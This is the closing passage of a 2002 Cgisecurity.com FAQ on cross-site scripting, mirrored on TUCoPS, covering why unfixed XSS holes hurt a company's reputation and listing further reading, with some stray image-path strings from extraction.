    that may exist in your browser.\"What if I don\'t feel like fixing a CSS/XSS Hole?\"


    By not fixing an  XSS  hole  this  could  allow  possible  user  account
    compromise in portions of your site as they get added or updated.  Cross
    Site Scripting has been found in various large sites recently  and  have
    been widely publicized. Left unrepaired, someone  may  discover  it  and
    publish a warning about your company. This may  damage  your  company\'s
    reputation, depicting it as being  lax  on  security  matters.  This  of
    course also sends the message to your clients that you  aren\'t  dealing
    with every problem that arises, which turns into a trust issue. If  your
    client doesn\'t trust you why would they wish to do business with you?


     \"What are some links I can visit to help me further understand XSS?\"


    \"Cross-site scripting tears holes in Net security\"



    Article on XSS holes\"CERT Advisory CA-2000-02 Malicious HTML Tags Embedded  in  Client  Web



    Paper on  Removing  Meta-characters  from  User  Supplied  Data  in  CGI



    Paper on Microsoft\'s Passport System



    Paper on Cookie Theft





     The webappsec mailing list (Visit www.securityfocus for details)Many Thanks to David Endler for reviewing this document.



     Published to the Public May 2002

     Copyright May 2002 Cgisecurity.com




    See recommandations

TUCoPS is optimized to look best in Firefox® on a widescreen monitor(1440x900 or better).
Sitedesign & layout copyright © 1986-2024 AOH